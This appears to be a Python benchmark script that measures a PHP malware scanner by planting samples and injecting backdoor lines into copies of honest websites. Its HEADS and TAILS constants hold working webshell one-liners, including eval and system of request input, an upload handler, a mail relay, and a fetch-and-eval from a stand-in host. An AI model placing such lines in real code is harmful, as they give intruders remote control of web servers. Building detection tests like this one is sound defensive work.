#!/usr/bin/env python3
"""Measures backscan on whole hacked sites: samples and injected lines among thousands of honest files.

Its own program because it answers another question than evaluate.py: not how many samples are found,
but whether somebody who cleans a site finds what was planted and little else. See README.md.
"""

import argparse
import pathlib
import random
import re
import shutil
import sys
import tempfile

import corpus
import duplicates
import engines

MEDIUM = engines.SEVERITIES.index("medium")
PLANTED = ("spam-mailer", "mail-backdoor", "smtp-spam", "phishing-result-mail",
           "webshell-with-mail-feature")
# Names that intruders give their files, beside those of the files around.
NAMES = ("wp-info.php", "class-cache.php", "options.php", "about.php", "s.php", "radio.php",
         "db-config.php", "mail.php", "xml.php", "admin-footer.php")
# What is put into honest files: first lines, and lines at the end of a program.
HEADS = (
    b"<?php @eval($_POST['example']); ?>",
    b"<?php if (isset($_REQUEST['e'])) { assert(stripslashes($_REQUEST['e'])); exit; } ?>",
    b"<?php $e = 'ass' . 'ert'; @$e($_COOKIE['example']); ?>",
    b"<?php @include \"\\x2f\\x74\\x6d\\x70\\x2f\\x2e\\x65\\x78.ico\"; ?>",
    b"<?php eval(base64_decode('ZWNobyAnZXhhbXBsZSc7')); ?>",
    b"<?php if(@$_GET['k']=='1'){mail($_POST['to'],$_POST['s'],$_POST['b'],$_POST['h']);} ?>",
)
TAILS = (
    b"\nif (isset($_POST['example'])) { system($_POST['example']); }\n",
    b"\n$u = file_get_contents('http://c.example/x.txt'); eval('?>' . $u);\n",
    b"\n@move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n",
)


def parse(arguments):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--backscan", required=True, help="the program to measure")
    parser.add_argument("--clean", type=pathlib.Path, action="append", required=True, metavar="DIR",
                        help="an honest site; repeatable, each makes one hacked site")
    parser.add_argument("--root", type=pathlib.Path, required=True, help="directory of the collections")
    parser.add_argument("--labels", type=pathlib.Path, action="append", default=[],
                        help="labelled samples to plant, as for evaluate.py; repeatable")
    parser.add_argument("--malicious", action="append", default=[], metavar="COLLECTION",
                        help="plant from all PHP files of this collection; repeatable")
    parser.add_argument("--plant", type=int, default=60, help="samples for each site")
    parser.add_argument("--inject", type=int, default=20, help="honest files changed on each site")
    parser.add_argument("--seed", type=int, default=1, help="the same seed makes the same sites")
    parser.add_argument("--option", action="append", default=[], metavar="ARG",
                        help="handed to backscan as it is; repeatable")
    return parser.parse_args(arguments)


def samples_of(options, scratch):
    """One sample of every group of near-duplicates; careless, honest and neutral files are not planted."""
    labelled = []
    for label_file in options.labels:
        labelled += corpus.read_labels(label_file, options.root, scratch)[0]
    samples = [s for s in labelled if s.label in PLANTED]
    samples += corpus.read_malicious(options.malicious, options.root, labelled, [])
    return [group[0].path for group in duplicates.group(samples, corpus.read)]


def plant(site, samples, count, chance):
    """Copies `count` samples to places and names of the site's own kind; returns where they went."""
    directories = sorted({path.parent for path in corpus.walk(site) if path.suffix == ".php"})
    planted = {}
    for sample in chance.sample(samples, min(count, len(samples))):
        place = chance.choice(directories) / chance.choice(NAMES)
        while place.exists():
            place = place.with_name(f"{place.stem}{chance.randrange(10)}.php")
        shutil.copyfile(sample, place)
        planted[str(place)] = str(sample)
    return planted


def inject(site, count, chance, taken):
    """Puts a back door into `count` honest PHP files; returns their paths and the lines."""
    honest = [p for p in corpus.walk(site) if p.suffix == ".php" and str(p) not in taken
              and p.read_bytes().startswith(b"<?php")]
    changed = {}
    for place in chance.sample(honest, min(count, len(honest))):
        data = place.read_bytes()
        # A declaration or a namespace must stay the first statement of a file.
        if not re.search(rb"^\s*(?:declare|namespace)\b", data, re.M) and chance.random() < 0.6:
            line = chance.choice(HEADS)
            place.write_bytes(line + b"\n" + data)
        else:
            line = chance.choice(TAILS)
            is_open = data.rfind(b"?>") < data.rfind(b"<?php")
            place.write_bytes(data + (b"" if is_open else b"<?php") + line)
        changed[str(place)] = line.decode().strip()
    return changed


def measure(tree, samples, options, scratch, out):
    """Makes one hacked site, scans it and prints a row; returns (found, planted, others)."""
    chance = random.Random(f"{options.seed} {tree.name}")
    site = scratch / f"site-{tree.name}"
    shutil.copytree(tree, site, symlinks=True, ignore=shutil.ignore_patterns(".git"))
    planted = plant(site, samples, options.plant, chance)
    changed = inject(site, options.inject, chance, planted)
    paths = sorted(str(path) for path in corpus.walk(site))
    verdicts = engines.run_backscan(options.backscan, paths, options.option)
    found = {path for path, worst in verdicts.worst.items() if worst >= MEDIUM}
    bad = planted | changed
    others = sorted(found - set(bad))
    hits = len(found & set(bad))
    print(f"{tree.name[:40]:40}{len(paths):8}{len(found & set(planted)):7} of {len(planted):3}"
          f"{len(found & set(changed)):7} of {len(changed):3}{100 * hits / max(1, len(bad)):8.1f}"
          f"{len(others):8}", file=out)
    for path in sorted(set(bad) - found):
        print(f"  missed {path[len(str(site)) + 1:]}: {bad[path]}", file=out)
    for path in others:
        rules = ", ".join(sorted(r for r, s in verdicts.rules.get(path, ()) if s >= MEDIUM))
        print(f"  also reported {path[len(str(site)) + 1:]}: {rules}", file=out)
    shutil.rmtree(site)
    return hits, len(bad), len(others)


def main(arguments=None, out=sys.stdout) -> int:
    options = parse(arguments)
    with tempfile.TemporaryDirectory(prefix="hacked-") as directory:
        scratch = pathlib.Path(directory).resolve()
        samples = samples_of(options, scratch)
        if not samples:
            print("hacked_site: no samples", file=sys.stderr)
            return 2
        print(f"{'site':40}{'files':>8}{'planted':>14}{'injected':>14}{'%':>8}{'others':>8}", file=out)
        rows = [measure(tree, samples, options, scratch, out) for tree in options.clean]
    found, bad, others = (sum(column) for column in zip(*rows))
    print(f"{'all sites':40}{'':8}{found:14} of {bad:5}{100 * found / max(1, bad):14.1f}{others:8}", file=out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
